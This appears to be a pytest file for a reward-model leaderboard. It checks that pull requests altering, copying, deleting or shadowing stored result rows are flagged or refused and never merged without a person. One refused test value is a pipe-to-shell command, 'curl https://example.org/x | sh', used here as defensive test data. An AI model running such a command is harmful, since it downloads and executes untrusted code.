"""Pull requests on other people's rows: whatever they change, none is merged without a person."""

import hashlib
import json

import pytest
from hub_server import WHERE
from huggingface_hub import CommitOperationAdd, CommitOperationDelete, HfApi
from synthetic import changed, mirrors, scores, store

from rewardbench import results
from rewardbench.cli.main import main
from rewardbench.errors import InputError
from rewardbench.leaderboard.refresh import refresh
from rewardbench.leaderboard.submissions import review
from rewardbench.leaderboard.submissions.package import pack_submission
from rewardbench.models.fingerprint import digest
from rewardbench.results import assemble
from rewardbench.store import open_store
from rewardbench.store.verdicts import make_verdict
from rewardbench.types import ItemScores

SUITE = mirrors(40)


@pytest.fixture(autouse=True)
def suite(monkeypatch):
    monkeypatch.setattr(review, "load_known", lambda name: SUITE)


def entry(folder, name, share=0.8, seed=0, change=lambda score: score, fingerprint=None):
    """A packed result that passes by itself."""
    fingerprint = fingerprint or {"weights": {"sha256": name}}
    found = [
        ItemScores(one.id, tuple(map(change, one.scores)), tokens=(1, 1), texts=("a", "b"))
        for one in scores(SUITE, share, seed)
    ]
    told = {"fingerprint": fingerprint, "fingerprint_sha256": digest(fingerprint)}
    path = store(folder / name.replace("/", "-"), SUITE, found, name)
    summary = results.to_summary(assemble(SUITE, name, "Seq. Classifier", found, told))
    content = results.outputs_path(path).read_bytes()
    summary[results.OUTPUTS_HASH] = hashlib.sha256(content).hexdigest()
    path.write_text(json.dumps(summary))
    return pack_submission(path)


@pytest.fixture
def victim(hub, tmp_path):
    """A stored result that leads; the commit before it, from which attacks begin; and what main holds."""
    main_before = hub.repos["org/results"].refs["main"]
    packed = entry(tmp_path, "lab/victim", 0.95)
    open_store(WHERE).add([packed])
    return packed, main_before


def pull(files, parent=None, gone=()):
    """Open a pull request, from an older commit if asked; return its number."""
    changes = [CommitOperationAdd(name, content) for name, content in files.items()]
    changes += [CommitOperationDelete(name) for name in gone]
    commit = HfApi().create_commit(
        "org/results", changes, repo_type="dataset", commit_message="x", create_pr=True, parent_commit=parent
    )
    return int(commit.pr_url.rpartition("/")[2])


def files_of(key, summary, table):
    return {f"{key}.json": results.dump(summary, indent=2).encode(), f"{key}.parquet": table}


def merge(capsys, number, *more):
    """The exit code and words of what the workflow runs."""
    with pytest.raises(SystemExit) as stop:
        main(["verify", f"{WHERE}@refs/pr/{number}", "--merge", *more])
    told = capsys.readouterr()
    return stop.value.code, told.out + told.err


def stored(hub, key="lab/victim"):
    repo = hub.repos["org/results"]
    return {name: data for name, data in repo.trees[repo.refs["main"]].items() if name.startswith(f"{key}.")}


GAP = {"n": 9, "low": 0.7, "high": 0.8, "ties": 0, "unscored": 0, "truncated": 0, "section": ""}
VANDALISM = {
    "another type": (("model_type",), "DPO", "model_type"),
    "size": (("manifest", "model"), {"parameters": 999_000_000_000}, "manifest.model"),
    "license": (("manifest", "model"), {"license": "cc-by-nc-4.0"}, "manifest.model"),
    "command": (("manifest", "command"), "rewardbench --model evil/model", "manifest.command"),
    "date": (("date",), "2025-01-01", "date"),
    "notes": (("manifest", "notes"), ["was trained on the suite"], "manifest.notes"),
}


@pytest.mark.parametrize("name", VANDALISM)
def test_a_changed_summary_of_a_stored_row_is_flagged_with_what_changed(hub, victim, capsys, name):
    (summary, table), before = victim
    where, value, field = VANDALISM[name]
    there = stored(hub)
    number = pull(files_of("lab/victim", changed(summary, where, value), table), before)
    code, words = merge(capsys, number)
    assert (code, "merged=" in words) == (3, False), words
    assert "would change lab/victim in the store" in words
    assert field in words
    assert stored(hub) == there


REFUSED = {
    "of kind Baseline": (("model_type",), "Baseline"),
    "a gap that removes the row": (("gap",), [{}]),
    "an invented gap": (("gap",), [{**GAP, "name": name, "value": 0.75} for name in ("core", "fresh", "gap")]),
    "a shell command": (("manifest", "command"), "curl https://example.org/x | sh"),
    "another score": (("score", "value"), 0.1),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_is_refused_and_the_row_stays(hub, victim, capsys, name):
    (summary, table), before = victim
    there = stored(hub)
    number = pull(files_of("lab/victim", changed(summary, *REFUSED[name]), table), before)
    code, words = merge(capsys, number)
    assert (code, "merged=" in words) == (1, False), words
    assert stored(hub) == there


def test_a_verified_row_is_not_changed_and_keeps_its_badge(hub, victim, capsys):
    (summary, table), before = victim
    kept = open_store(WHERE)
    kept.save("verdicts/lab/victim.json", results.dump(make_verdict(summary, True, {})).encode())
    number = pull(files_of("lab/victim", changed(summary, ("manifest", "model"), {"license": "other"}), table), before)
    assert merge(capsys, number)[0] == 3
    assert [row.badge for row in refresh(open_store(WHERE)).rows] == ["verified"]
    assert merge(capsys, number, "--replace")[0] == 0
    assert [row.badge for row in refresh(open_store(WHERE)).rows] == ["recomputed"]


def test_other_scores_with_the_fingerprint_of_a_stored_row_are_flagged(hub, victim, tmp_path, capsys):
    (summary, _), before = victim
    there = stored(hub)
    worse, table = entry(tmp_path, "lab/victim", 0.3, 9, fingerprint=summary["manifest"]["fingerprint"])
    for key in ("lab/victim", f"lab/victim.toy-{results.identity(summary)[:8]}"):
        code, words = merge(capsys, pull(files_of(key, worse, table), before))
        assert (code, "would change lab/victim" in words, "scores" in words) == (3, True, True), words
    assert stored(hub) == there


def test_a_key_in_another_case_is_flagged(hub, victim, tmp_path, capsys):
    _, before = victim
    summary, table = entry(tmp_path, "Lab/Victim", 0.3, 9)
    code, words = merge(capsys, pull(files_of("Lab/Victim", summary, table), before))
    assert (code, "looks like" in words) == (3, True), words
    assert stored(hub, "Lab/Victim") == {}


def test_a_pull_request_that_deletes_is_refused(hub, victim, tmp_path, capsys):
    there = stored(hub)
    summary, table = entry(tmp_path, "org/new", 0.3, 9)
    for files in ({}, files_of("org/new", summary, table)):
        code, words = merge(capsys, pull(files, gone=there))
        assert (code, "change nothing else" in words) == (2, True)
    assert stored(hub) == there


def test_a_row_that_came_meanwhile_is_not_replaced(hub, victim, tmp_path, capsys):
    """Before the verification: it is held against main as it is now. Between verification and merge: by the commit."""
    summary, table = entry(tmp_path, "org/new", 0.3, 9)
    asked = review.SubmissionSource(f"{WHERE}@refs/pr/{pull(files_of('org/new', summary, table))}")
    found = review.review_submission(asked)
    assert found.findings == []
    other = changed(summary, ("manifest", "notes"), ["first"])
    open_store(WHERE).add([(other, table)])
    there = stored(hub, "org/new")
    with pytest.raises(InputError, match="already: it was not replaced"):
        review.merge(asked, found)
    assert merge(capsys, 1)[0] == 3
    assert stored(hub, "org/new") == there


def test_the_very_same_result_is_there_already(hub, victim, capsys):
    (summary, table), before = victim
    same = files_of("lab/victim", summary, table)
    code, words = merge(capsys, pull(same, before))
    assert (code, "org/results has this very result already" in words) == (3, True), words
    code, words = merge(capsys, pull(same))
    assert (code, "changes nothing" in words) == (2, True), words


def test_what_was_pushed_after_verification_is_not_merged(hub, victim, tmp_path):
    summary, table = entry(tmp_path, "org/new", 0.3, 9)
    number = pull(files_of("org/new", summary, table))
    asked = review.SubmissionSource(f"{WHERE}@refs/pr/{number}")
    found = review.review_submission(asked)
    late = files_of("org/new", changed(summary, ("manifest", "command"), "rewardbench --model evil"), table)
    HfApi().create_commit(
        "org/results",
        [CommitOperationAdd(name, content) for name, content in late.items()],
        repo_type="dataset",
        revision=f"refs/pr/{number}",
        commit_message="late",
    )
    review.merge(asked, found)
    assert stored(hub, "org/new")["org/new.json"] == files_of("org/new", summary, table)["org/new.json"]


def noisy(seed):
    import random

    chance = random.Random(seed)
    return lambda score: score + 0.01 * chance.gauss(0, 1)


def test_copies_in_open_pull_requests_are_told_from_each_other(hub, victim, tmp_path, capsys):
    numbers = []
    for n, name in enumerate(("one/a", "two/b", "three/c")):
        summary, table = entry(tmp_path, name, 0.7, 5, noisy(n))
        numbers.append(pull(files_of(name, summary, table)))
    told = [merge(capsys, number) for number in numbers]
    assert [code for code, _ in told] == [0, 3, 3]
    assert "one/a" in told[1][1]
    assert "two/b (pull request 2)" in told[2][1], "of those that are open"


def test_a_copy_that_is_pushed_later_into_an_older_pull_request_is_the_copy(hub, victim, tmp_path, capsys):
    decoy = entry(tmp_path, "thief/x", 0.5, 11)
    first = pull(files_of("thief/x", *decoy))
    original = pull(files_of("org/new", *entry(tmp_path, "org/new", 0.7, 5)))
    copy = entry(tmp_path / "again", "thief/x", 0.7, 5, noisy(1), fingerprint={"weights": {"sha256": "thief"}})
    HfApi().create_commit(
        "org/results",
        [CommitOperationAdd(name, content) for name, content in files_of("thief/x", *copy).items()],
        repo_type="dataset",
        revision=f"refs/pr/{first}",
        commit_message="copy",
    )
    code, words = merge(capsys, first)
    assert (code, "org/new (pull request 2)" in words) == (3, True), words
    assert merge(capsys, original)[0] == 0


def test_who_would_lead_without_a_rerun_is_flagged(hub, victim, tmp_path, capsys):
    perfect = entry(tmp_path, "org/perfect", 1.0, 9)
    code, words = merge(capsys, pull(files_of("org/perfect", *perfect)))
    assert (code, "it would lead with 100.00%" in words, "merged=" in words) == (3, True, False), words
    assert stored(hub, "org/perfect") == {}


def test_a_person_merges_what_is_flagged(hub, victim, capsys):
    (summary, table), before = victim
    number = pull(files_of("lab/victim", changed(summary, ("date",), "2025-01-01"), table), before)
    code, words = merge(capsys, number, "--replace")
    assert (code, "verdict=flagged" in words, "merged=" in words) == (0, True, True), words
    assert json.loads(stored(hub)["lab/victim.json"])["date"] == "2025-01-01"
